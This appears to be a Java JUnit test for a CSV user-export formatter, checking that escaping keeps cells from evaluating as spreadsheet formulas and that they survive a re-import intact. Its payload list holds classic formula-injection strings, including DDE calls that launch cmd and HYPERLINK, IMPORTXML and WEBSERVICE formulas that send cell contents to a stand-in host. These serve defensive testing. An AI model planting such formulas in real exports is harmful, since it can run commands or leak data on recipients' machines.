package dev.usher.jobs.exporting.format;

import static dev.usher.jobs.exporting.format.AUser.aUser;
import static org.assertj.core.api.Assertions.assertThat;

import dev.usher.jobs.csv.CsvEscape;
import dev.usher.jobs.exporting.field.ExportField;
import dev.usher.jobs.exporting.field.FieldRules;
import dev.usher.jobs.exporting.field.FieldSelection;
import dev.usher.jobs.importing.parse.ReadRecords;
import dev.usher.jobs.importing.row.RowValue;
import dev.usher.jobs.importing.source.InputFormat;
import dev.usher.jobs.importing.source.InputHints;
import dev.usher.jobs.importing.split.SplitLimits;
import dev.usher.jobs.profile.UserColumn;
import dev.usher.jobs.user.UserAttribute;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Texts that want to be formulas: no spreadsheet evaluates them, and an import gets them back as they were. */
class CsvFormulaTest {

    private static final List<String> STARTS = List.of("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20");

    /** What a program may trim, or not show, before it looks at the first character. */
    private static final List<String> BLANKS = List.of(
            "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u202e ", "\u0001",
            "\u2028", "\u007f");

    private static final List<String> CLASSICS = List.of(
            "=cmd|' /C calc'!A0",
            "=2+5+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://x.org/?leak=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"https://x.org/?\",A1),\"//a\")",
            "=WEBSERVICE(\"https://x.org/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "'=1+1",
            "''=1+1",
            "'",
            "''",
            "'tis",
            "\"=1+1",
            "\"=1+1\"",
            "\",=1+1",
            "\"\r\n=1+1",
            "x\r\n=1+1",
            "x\n=1+1,\"=1+1\"",
            "x,=1+1",
            "x;=1+1",
            "a\",\"=1+1",
            "a\"\r\n\"=1+1",
            "=\"\"",
            "=1+1\"",
            "=1,2",
            "-1",
            "+447700900123",
            "@ann",
            "--",
            " ",
            "\t",
            "\r\n",
            "plain",
            "0=1",
            "é=1",
            "日本=1",
            "a b=c");

    private static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    /** A cell that a spreadsheet, trimming as much as any does, might evaluate. */
    private static final Pattern FORMULA =
            Pattern.compile("(?s)[\\t\\r\\n].*|[\\s\\p{Z}\\p{C}]*[=+@\\uff1d\\uff0b\\uff0d\\uff20-].*");

    @TempDir
    private Path folder;

    private static List<String> payloads() {
        var payloads = new ArrayList<>(CLASSICS);
        for (var blank : BLANKS) {
            STARTS.forEach(start -> payloads.add(blank + start + "1+1"));
        }
        return payloads;
    }

    @Test
    void thereAreEnough() {
        assertThat(payloads()).hasSizeGreaterThan(100).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @EnumSource
    void texts(CsvEscape escape) throws IOException {
        var selection = FieldSelection.of(
                List.of(
                        ExportField.named("email"),
                        ExportField.named("name"),
                        ExportField.named("user_metadata.note"),
                        new ExportField("user_metadata.list", "user_metadata.list:json")),
                new FieldRules(true, false));
        var out = new TextBuffer(16);
        var format = new CsvUserFormat(selection, escape);
        format.writeHeader(out);
        for (var payload : payloads()) {
            var user = aUser().with(UserColumn.EMAIL, "ann@example.com")
                    .with(UserColumn.NAME, payload)
                    .with(UserColumn.USER_METADATA, Map.of("note", payload, "list", List.of(payload)));
            format.write(user.read(selection), out);
        }

        if (escape != CsvEscape.NONE) {
            assertThat(evaluatedIn(out.toString())).isEmpty();
        }
        var rows = imported(out, escape);
        assertThat(rows).hasSameSizeAs(payloads());
        for (int i = 0; i < rows.size(); i++) {
            var payload = payloads().get(i);
            var row = rows.get(i).row();
            assertThat(row.errors()).isEmpty();
            assertThat(shown(row.values().get(UserAttribute.NAME))).isEqualTo(payload);
            assertThat(shown(row.values().get(UserAttribute.USER_METADATA)))
                    .isEqualTo(Map.of("note", payload, "list", List.of(payload)));
        }
    }

    @ParameterizedTest
    @EnumSource(names = "NONE", mode = EnumSource.Mode.EXCLUDE)
    void names(CsvEscape escape) {
        for (var payload : payloads()) {
            var selection = FieldSelection.of(List.of(new ExportField("email", payload)), new FieldRules(true, false));
            var out = new TextBuffer(16);

            new CsvUserFormat(selection, escape).writeHeader(out);

            assertThat(evaluatedIn(out.toString())).isEmpty();
            assertThat(cells(out.toString()))
                    .singleElement()
                    .satisfies(name -> assertThat(escape.undo(name)).isEqualTo(payload));
        }
    }

    @Test
    void theyAreEvaluatedIfNobodyAskedForMore() {
        var selection = FieldSelection.of(List.of(ExportField.named("name")), new FieldRules(true, false));
        var out = new TextBuffer(16);

        new CsvUserFormat(selection, CsvEscape.NONE)
                .write(aUser().with(UserColumn.NAME, "=1+1").read(selection), out);

        assertThat(evaluatedIn(out.toString())).containsExactly("=1+1");
    }

    private List<ReadRecords.Read> imported(TextBuffer csv, CsvEscape escape) throws IOException {
        var file = Files.writeString(folder.resolve("users.csv"), csv.toString());
        return new ReadRecords(file, InputHints.of(InputFormat.CSV), SplitLimits.DEFAULT, Map.of(), escape).all();
    }

    private static Object shown(@Nullable RowValue value) {
        if (value instanceof RowValue.Obj object) {
            return object.members().entrySet().stream()
                    .collect(Collectors.toMap(Map.Entry::getKey, member -> shown(member.getValue())));
        }
        if (value instanceof RowValue.Arr array) {
            return array.items().stream().map(CsvFormulaTest::shown).toList();
        }
        return value instanceof RowValue.Text text ? text.value() : String.valueOf(value);
    }

    private static List<String> evaluatedIn(String csv) {
        return cells(csv).stream()
                .filter(cell ->
                        FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches())
                .toList();
    }

    /** The cells as a spreadsheet finds them: a quote counts at the beginning of a cell only, any line end ends a record. */
    private static List<String> cells(String csv) {
        var cells = new ArrayList<String>();
        int at = 0;
        while (at < csv.length()) {
            var cell = new StringBuilder();
            if (csv.charAt(at) == '"') {
                at++;
                while (csv.charAt(at) != '"' || (at + 1 < csv.length() && csv.charAt(at + 1) == '"')) {
                    at += csv.charAt(at) == '"' ? 1 : 0;
                    cell.append(csv.charAt(at++));
                }
                at++;
            }
            while (",\r\n".indexOf(csv.charAt(at)) < 0) {
                cell.append(csv.charAt(at++));
            }
            at += csv.startsWith("\r\n", at) ? 2 : 1;
            cells.add(cell.toString());
        }
        return cells;
    }
}
